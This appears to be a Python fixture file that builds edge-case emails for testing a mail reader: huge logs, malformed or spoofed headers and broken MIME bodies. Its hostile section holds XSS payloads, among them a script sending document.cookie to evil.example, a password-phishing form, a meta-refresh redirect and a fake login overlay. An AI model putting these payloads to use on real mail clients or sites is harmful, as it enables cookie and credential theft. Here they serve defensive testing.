"""The very long, the very odd and the broken: what arrives in every mailbox that lives long enough."""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime
from email.utils import format_datetime

from hsp.demo.letters.letter import ALICE, Sketch

Raw = Callable[[datetime], bytes]


def _raw(text: str, charset: str = "utf-8") -> Raw:
    """A whole message as it stands, its line ends made CRLF; @DATE@ becomes its date."""

    def content(when: datetime) -> bytes:
        filled = text.strip("\n").replace("@DATE@", format_datetime(when)).replace("\n", "\r\n")
        return filled.encode(charset, "surrogateescape") + b"\r\n"

    return content


def letters() -> list[Sketch]:
    """Mails that test a reader's patience: very long, broken, hostile."""
    return [*_long(), *_headers(), *_bodies(), *_hostile()]


def _long() -> list[Sketch]:
    log = "\n".join(
        f"{hour % 24:02d}:{minute:02d}  The water is {(hour * 7 + minute) % 400} cm deep and {mood}."
        for hour in range(90)
        for minute, mood in ((0, "calm"), (12, "thoughtful"), (24, "calm again"), (36, "green"), (48, "on its way"))
    )
    crowd = ", ".join(f"Guest {number} <guest{number:03d}@regatta.example>" for number in range(1, 301))
    endless = "A subject that could not stop: " + " and then the tide came in" * 18
    return [
        Sketch(14.9, "Tide Gauge 4 <gauge4@hydrographic.example>", "Log of the gauge, unabridged", (log + "\n") * 6),
        Sketch(
            9.1,
            "Regatta <hello@regatta.example>",
            "To all three hundred of you",
            "Welcome! Please do not answer to all.\n",
            to=ALICE,
            cc=crowd,
        ),
        Sketch(19.5, "Florian Nonstop <florian@nonstop.example>", endless[:500], "I will be brief.\n"),
        Sketch(
            22.8,
            "One Line <line@single-line.example>",
            "A single line of 20,000 letters",
            "tick " * 4000,
            encoding="base64",
        ),
        Sketch(37.7, "Unbroken <word@unbroken.example>", "W" * 120, "Donau" + "dampfschiff" * 40 + "fahrt\n"),
        Sketch(
            41.2,
            "A very long name indeed, of the kind that was given to the youngest of eleven children by a father with"
            " time on his hands <long.name@names.example>",
            "My name",
            "It does not fit on the door either.\n",
        ),
        Sketch(
            39.3,
            "Deep Quoter <deep@quotes.example>",
            "Re: Re: Re: Re: Re: who said what",
            "\n".join(f"{'>' * depth} I disagree with the above." for depth in range(0, 40)) + "\n",
        ),
    ]


def _headers() -> list[Sketch]:
    odd = "Odd <odd@odd-headers.example>"
    return [
        Sketch(5.9, odd, "", raw=_raw(f"From: {odd}\nTo: {ALICE}\nDate: @DATE@\n\nThis letter has no subject line.")),
        Sketch(6.2, odd, "", raw=_raw(f"To: {ALICE}\nSubject: From nobody\nDate: @DATE@\n\nNobody wrote this.")),
        Sketch(
            8.6,
            odd,
            "",
            raw=_raw(
                f"From: {odd}\nTo: {ALICE}\nSubject: A broken date\nDate: Blursday, 41 Octember 99:99\n\n"
                "The clock was drunk."
            ),
        ),
        Sketch(
            8.5,
            odd,
            "",
            raw=_raw(
                f"From: {odd}\nTo: {ALICE}\nSubject: From the far future\n"
                "Date: Fri, 31 Dec 2199 23:59:59 +0000\n\nIt is fine here. Bring a hat."
            ),
        ),
        Sketch(8.4, odd, "", raw=_raw(f"From: {odd}\nTo: {ALICE}\nSubject: Without any date\n\nTimeless.")),
        Sketch(
            11.9,
            odd,
            "",
            raw=_raw(
                f"From: Ångström & Søn <salg@angstrom.example>\nTo: {ALICE}\nDate: @DATE@\n"
                "Subject: Rå 8-bit i emnefeltet (UTF-8)\n\nVi koder ikke, vi håber."
            ),
        ),
        Sketch(
            11.7,
            odd,
            "",
            raw=_raw(
                f"From: Café de la Marée <cafe@maree.example>\nTo: {ALICE}\nDate: @DATE@\n"
                "Subject: Menu d'été (octets bruts)\n\nCrème brûlée.",
                "latin-1",
            ),
        ),
        Sketch(
            13.1,
            odd,
            "",
            raw=_raw(
                "From: =?utf-8?Q?Broken_=E2=82?= =?bogus-charset?B?////?= <broken@encoded.example>\n"
                f"To: {ALICE}\nSubject: =?utf-8?B?VGhpcyB3b3JkIGlzIGN1dCBvZg==?= =?utf-8?Q?=ZZ?=\n"
                "Date: @DATE@\n\nEncoded words that are not quite words."
            ),
        ),
        Sketch(
            24.6,
            odd,
            "",
            raw=_raw(
                'From: "Unclosed quote <quote@quotes.example>\nTo: undisclosed-recipients:;\n'
                "Subject: To everybody and nobody\nDate: @DATE@\n\nPsst."
            ),
        ),
        Sketch(
            25.6,
            odd,
            "",
            raw=_raw(
                f"From: One <one@pair.example>, Two <two@pair.example>\nSender: Two <two@pair.example>\n"
                f"Reply-To: Both <both@pair.example>\nTo: {ALICE}\nSubject: From two of us\n"
                "Date: @DATE@\n\nWe agree on this letter."
            ),
        ),
        Sketch(
            27.1,
            odd,
            "",
            raw=_raw(
                f"From: Twice <a@twice.example>\nFrom: Twice <b@twice.example>\nTo: {ALICE}\n"
                "Subject: First subject\nSubject: Second subject\nDate: @DATE@\n\nEverything doubled."
            ),
        ),
        Sketch(
            29.6,
            odd,
            "",
            raw=_raw(
                f"From: {odd}\nTo: {ALICE}\nDate: @DATE@\nSubject: Tabs\tand \x07 bells \x1b[31mred\n\n"
                "Control characters belong to ships."
            ),
        ),
        Sketch(
            31.0,
            odd,
            "",
            raw=_raw(
                f'From: "admin@demo.test" <someone.else@phish.example>\nTo: {ALICE}\nDate: @DATE@\n'
                "Subject: The name says one address and the address another\n\nLook twice."
            ),
        ),
    ]


def _bodies() -> list[Sketch]:
    head = f"From: Bodies <bodies@odd-bodies.example>\nTo: {ALICE}\nDate: @DATE@\nMIME-Version: 1.0\n"
    nested = "".join(
        f'Content-Type: multipart/mixed; boundary="level{depth}"\n\n--level{depth}\n' for depth in range(12)
    )
    flowed = (
        "This letter is written in format=flowed, so that its lines may be as \nwide as your window"
        " and no wider. A space"
        " at the end of a line says \nthat the sentence goes on.\n\n> Quoted lines flow as well, in a"
        " river of \n> their own.\n"
        "\n-- \nA signature that does not flow.\n"
    )
    return [
        Sketch(7.4, "x <x@x.example>", "", raw=_raw(f"{head}Subject: An empty body\n\n")),
        Sketch(
            7.35,
            "x <x@x.example>",
            "",
            raw=_raw(f"{head}Subject: Twelve boxes, one note\n{nested}Content-Type: text/plain\n\nYou found it.\n"),
        ),
        Sketch(
            10.0,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: format=flowed, as it should be\n"
                f"Content-Type: text/plain; charset=utf-8; format=flowed\n\n{flowed}"
            ),
        ),
        Sketch(
            15.2,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: A box without an end\nContent-Type: multipart/mixed; "
                'boundary="never"\n\n--never\nContent-Type: text/plain\n\nThe end is miss'
            ),
        ),
        Sketch(
            15.1,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: A box without a name\nContent-Type: multipart/mixed\n\n"
                "There should be a boundary here."
            ),
        ),
        Sketch(
            16.6,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: Base64 with a hole in it\nContent-Type: text/plain\n"
                "Content-Transfer-Encoding: base64\n\nVGhlIGNsb2NrI!!HN0cnVjayBvbmUu*"
            ),
        ),
        Sketch(
            17.5,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: Says UTF-8, is not\nContent-Type: text/plain; charset=utf-8\n"
                "Content-Transfer-Encoding: 8bit\n\nCrème brûlée, déjà vu.",
                "latin-1",
            ),
        ),
        Sketch(
            18.3,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: A charset nobody knows\nContent-Type: text/plain; "
                "charset=x-klingon-8\n\nThe letters are plain, the label is not."
            ),
        ),
        Sketch(
            20.6,
            "x <x@x.example>",
            "",
            raw=_raw(
                f"{head}Subject: Type of nonsense\nContent-Type: ///;;=;\n"
                "Content-Transfer-Encoding: sometimes\n\nStill readable."
            ),
        ),
    ]


def _hostile() -> list[Sketch]:
    """HTML that tries things; a reader should see only the sentences."""
    shop = "Prize Office <prize@too-good.example>"
    return [
        Sketch(
            0.95,
            shop,
            "You have won a lighthouse",
            "You have won a lighthouse. Click nothing.\n",
            html="<p>You have <b>won a lighthouse</b>.</p><script>new"
            ' Image().src="https://evil.example/?"+document.cookie'
            '</script><img src=x onerror="alert(1)"><a href="javascript:alert(2)">Claim it</a>'
            '<iframe src="https://evil.example/frame"></iframe><form'
            ' action="https://evil.example/login"><label>Password'
            ' <input type="password" name="p"></label><button>Claim</button></form>'
            '<svg onload="alert(3)"><a xlink:href="javascript:alert(4)"><text y="12">Sail</text></a></svg>'
            '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
            flags="",
        ),
        Sketch(
            12.7,
            shop,
            "This letter would like to be the whole page",
            "It covers nothing in plain text.\n",
            html='<style>*{display:none!important} body:before{content:"Your session has ended, log in again"}</style>'
            "<div"
            ' style="position:fixed;top:0;left:0;width:10'
            '0vw;height:100vh;z-index:99999;background:#fff">Your session has'
            ' ended. <a href="https://evil.example/login" target="_top">Log in</a></div>'
            '<p style="width:expression(alert(5));background:url(javascript:alert(6))">A sentence below.</p>',
        ),
        Sketch(
            21.9,
            shop,
            "<script>alert('subject')</script> & <b>friends</b>",
            "A subject is text. So is this: <img src=x onerror=alert(7)> {{ 7*7 }} <%= 7*7 %> ${7*7}\n",
        ),
        Sketch(
            29.2,
            shop,
            "Ten thousand tags",
            "Only the plain part is short.\n",
            html="<div>" * 3000 + "The bottom." + "</div>" * 3000,
        ),
    ]
